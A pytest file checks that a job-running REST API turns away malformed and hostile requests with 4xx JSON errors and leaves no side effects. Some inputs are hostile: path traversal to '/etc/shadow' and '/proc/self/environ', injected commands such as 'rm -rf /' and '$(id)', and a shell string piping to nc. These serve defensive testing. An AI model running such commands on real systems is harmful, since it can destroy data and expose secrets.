"""A table of bad requests across every endpoint: each a 4xx JSON error naming the problem, no 5xx,
nothing created (no file on disk, no row in the database)."""
from __future__ import annotations

import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from caesar_rest.db import session_scope
from caesar_rest.models import File, Job, JobEvent

from ..support import API, upload

TES = "/ga4gh/tes/v1"
JOB = "69ca62d7-5098-4fe7-a675-63895a2d06b1"
UUID = "67a49bf7555b41739095681bf52a1f99"
MP = "multipart/form-data"


def f(content: bytes = b"data", name: str = "a.txt"):
    return {"file": (io.BytesIO(content), name)}


# (method, path, request kwargs, status, words the message must contain)
TABLE = [
    # upload
    ("post", "/upload", {"data": {}, "content_type": MP}, 400, "field 'file'"),
    ("post", "/upload", {"data": {"upload": (io.BytesIO(b"x"), "a.txt")}, "content_type": MP}, 400, "field 'file'"),
    ("post", "/upload", {"data": {"file": "text, not a file"}, "content_type": MP}, 400, "field 'file'"),
    ("post", "/upload", {"data": f(b""), "content_type": MP}, 400, "empty"),
    ("post", "/upload", {"data": f(name="../../etc/passwd"), "content_type": MP}, 400, "plain name"),
    ("post", "/upload", {"data": f(name="..\\..\\boot.ini"), "content_type": MP}, 400, "plain name"),
    ("post", "/upload", {"data": f(name=".."), "content_type": MP}, 400, "plain name"),
    ("post", "/upload", {"data": f(name="a\x00.fits"), "content_type": MP}, 400, "NUL"),
    ("post", "/upload", {"data": f(name="bell\x07.fits"), "content_type": MP}, 400, "control"),
    ("post", "/upload", {"data": f(name="é" * 200 + ".fits"), "content_type": MP}, 400, "255 bytes"),
    ("post", "/upload", {"data": {**f(), "tag": "t" * 300}, "content_type": MP}, 400, "'tag'"),
    ("post", "/upload", {"data": b"raw", "content_type": "application/octet-stream"}, 415, "multipart"),
    ("post", "/upload", {"json": {"file": "x"}}, 415, "multipart"),
    ("post", "/upload", {"data": "file=x", "content_type": "application/x-www-form-urlencoded"}, 415, "multipart"),
    ("put", "/upload", {}, 405, "not allowed"),
    ("get", "/upload", {}, 405, "not allowed"),
    # files
    ("get", f"/download-id/{UUID}", {}, 404, "not found"),
    ("get", "/download-id/ABCDEF", {}, 400, "uuid"),
    ("get", "/download-id/" + "A" * 32, {}, 400, "uuid"),
    ("post", "/download-id/..%2F..%2Fetc%2Fpasswd", {}, 404, "not found"),
    ("get", "/download-id/%00", {}, 400, "uuid"),
    ("delete", f"/delete/{UUID}", {}, 404, "not found"),
    ("post", "/delete/not-a-uuid", {}, 400, "uuid"),
    ("put", f"/delete/{UUID}", {}, 405, "not allowed"),
    ("post", "/fileids", {}, 405, "not allowed"),
    # apps
    ("get", "/app/nope/describe", {}, 404, "Unknown app"),
    ("get", "/app/%00/describe", {}, 404, "Unknown app"),
    ("post", "/apps", {}, 405, "not allowed"),
    # job submission: body shape
    ("post", "/job", {"data": "{\"app\": ", "content_type": "application/json"}, 400, "not valid JSON"),
    ("post", "/job", {"data": "\xff\xfe", "content_type": "application/json"}, 400, "not valid JSON"),
    ("post", "/job", {"data": "{\"app\": NaN}", "content_type": "application/json"}, 400, "not valid JSON"),
    ("post", "/job", {"data": "", "content_type": "application/json"}, 400, "empty"),
    ("post", "/job", {"data": "{\"app\":\"sleeper\",\"app\":\"checksum\"}", "content_type": "application/json"}, 400,
     "repeats the field 'app'"),
    ("post", "/job", {"data": "[" * 100000 + "]" * 100000, "content_type": "application/json"}, 400, "not valid JSON"),
    ("post", "/job", {"data": "{\"app\":\"" + "x" * (2 * 1024 * 1024) + "\"}", "content_type": "application/json"}, 413,
     "larger than"),
    ("post", "/job", {"data": "app=sleeper", "content_type": "application/x-www-form-urlencoded"}, 415,
     "application/json"),
    ("post", "/job", {"data": "<job/>", "content_type": "text/xml"}, 415, "application/json"),
    ("post", "/job", {"data": "null", "content_type": "application/json"}, 400, "JSON object"),
    ("post", "/job", {"json": 42}, 400, "JSON object"),
    ("post", "/job", {"json": {}}, 400, "'app'"),
    ("post", "/job", {"json": {"app": ["sleeper"]}}, 400, "'app'"),
    ("post", "/job", {"json": {"app": "sleeper\u0000"}}, 404, "Unknown app"),
    ("post", "/job", {"json": {"app": "søurce-finder"}}, 404, "Unknown app"),
    ("post", "/job", {"json": {"app": "sleeper", "extra": 1}}, 400, "Unknown field 'extra'"),
    ("post", "/job", {"json": {"app": "sleeper", "tag": "x" * 1000}}, 400, "'tag'"),
    ("post", "/job", {"json": {"app": "sleeper", "backend": 3}}, 400, "backend"),
    ("post", "/job", {"json": {"app": "sleeper", "backend_options": []}}, 400, "backend_options"),
    ("post", "/job", {"json": {"app": "sleeper", "backend_options": {"rm": "-rf"}}}, 400, "takes no option 'rm'"),
    # job submission: options
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": "seconds=1"}}, 400, "JSON object"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"--seconds": 1}}}, 400, "Unknown option '--seconds'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"seconds": "1; rm -rf /"}}}, 400, "'seconds'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"seconds": 10 ** 30}}}, 400, "'seconds'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"seconds": [1]}}}, 400, "'seconds'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"exit-code": "$(id)"}}}, 400, "'exit-code'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"exit-code": 2 ** 70}}}, 400, "'exit-code'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"message": {"a": 1}}}}, 400, "'message'"),
    ("post", "/job", {"json": {"app": "sleeper", "job_inputs": {"message": "\u0000"}}}, 400, "NUL"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": "x", "deblend": "true"}}}, 400,
     "'deblend'"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": "../../etc/passwd"}}}, 400, "outside"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": "/etc/shadow"}}}, 400, "outside"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": "/proc/self/environ"}}}, 400, "outside"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": UUID}}}, 400, "no uploaded file"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"inputfile": ""}}}, 400, "'inputfile'"),
    ("post", "/job", {"json": {"app": "sfinder", "job_inputs": {"seedthr": 0}}}, 400, "'seedthr'"),
    ("post", "/job", {"json": {"app": "checksum", "job_inputs": {"inputfile": UUID, "algorithm": "crc32"}}}, 400,
     "'algorithm'"),
    ("post", "/job", {"json": {"app": "sleeper", "data_inputs": "../x"}}, 400, "data_inputs"),
    ("post", "/job", {"json": {"app": "sleeper", "data_inputs": {"a": UUID}}}, 400, "data_inputs"),
    ("put", "/job", {"json": {"app": "sleeper"}}, 405, "not allowed"),
    ("get", "/job", {}, 405, "not allowed"),
    # jobs and one job
    ("get", "/jobs?page=-1", {}, 400, "'page'"),
    ("get", "/jobs?per_page=abc", {}, 400, "'per_page'"),
    ("get", "/jobs?per_page=99999", {}, 400, "'per_page'"),
    ("get", "/jobs?state=FINISHED", {}, 400, "Unknown state"),
    ("get", f"/job/{JOB}", {}, 404, "not found"),
    ("get", f"/job/{JOB}/status", {}, 404, "not found"),
    ("get", f"/job/{JOB.upper()}/status", {}, 400, "job id"),
    ("get", "/job/../../etc/passwd/status", {}, 404, "not found"),
    ("get", "/job/1;ls/status", {}, 400, "job id"),
    ("post", f"/job/{JOB}/cancel", {}, 404, "not found"),
    ("get", f"/job/{JOB}/output", {}, 404, "not found"),
    ("get", f"/job/{JOB}/logs", {}, 404, "not found"),
    ("get", f"/job/{JOB}/logs?tail=many", {}, 400, "'tail'"),
    ("get", f"/job/{JOB}/metadata", {}, 404, "not found"),
    ("delete", f"/job/{JOB}/status", {}, 405, "not allowed"),
]

TES_TABLE = [
    ("post", f"{TES}/tasks", {"data": "{", "content_type": "application/json"}, 400, "JSON"),
    ("post", f"{TES}/tasks", {"json": {}}, 400, "executors"),
    ("post", f"{TES}/tasks", {"json": {"executors": []}}, 400, "executors"),
    ("post", f"{TES}/tasks", {"json": {"executors": [{"image": "alpine"}]}}, 400, "command"),
    ("get", f"{TES}/tasks/{JOB}", {}, 404, "not found"),
    ("get", f"{TES}/tasks?view=EVERYTHING", {}, 400, "view"),
]


def snapshot(app) -> tuple:
    with session_scope(app.config["DATABASE_URL"]) as s:
        rows = tuple(s.scalar(select(func.count()).select_from(t)) for t in (File, Job, JobEvent))
    files = sorted(str(p) for p in Path(app.config["ROOT"], "data").rglob("*"))
    jobs = sorted(str(p) for p in Path(app.config["ROOT"], "jobs").rglob("*"))
    return rows, files, jobs


def test_the_table_is_large_enough():
    assert len(TABLE) + len(TES_TABLE) >= 60


@pytest.fixture
def seeded(app, client):
    upload(client, b"SIMPLE", "seed.fits")
    return app


@pytest.mark.parametrize("method, path, kwargs, status, words", TABLE + TES_TABLE,
                         ids=[f"{i}-{r[0]}-{r[1][:40]}" for i, r in enumerate(TABLE + TES_TABLE)])
def test_bad_request(seeded, client, method, path, kwargs, status, words):
    before = snapshot(seeded)
    full = path if path.startswith("/ga4gh") else API + path
    response = getattr(client, method)(full, **kwargs)
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    body = response.get_json()
    assert isinstance(body, dict), response.get_data(as_text=True)[:200]
    message = body.get("message") or body.get("msg") or ""
    assert words.lower() in message.lower(), body
    assert snapshot(seeded) == before


def test_shell_metacharacters_in_a_string_option_are_data(seeded, client):
    evil = "$(touch /tmp/caesar-pwned); `id` | nc x 1 && rm -rf ~ > /dev/null"
    r = client.post(f"{API}/job", json={"app": "sleeper", "job_inputs": {"message": evil, "seconds": 0}})
    assert r.status_code == 202
    from workers.runner import Runner
    assert Runner(seeded.config).run(r.get_json()["job_id"]) == "SUCCESS"
    logs = client.get(f"{API}/job/{r.get_json()['job_id']}/logs").get_json()
    assert logs["stdout"].splitlines()[0] == evil
    assert not Path("/tmp/caesar-pwned").exists()
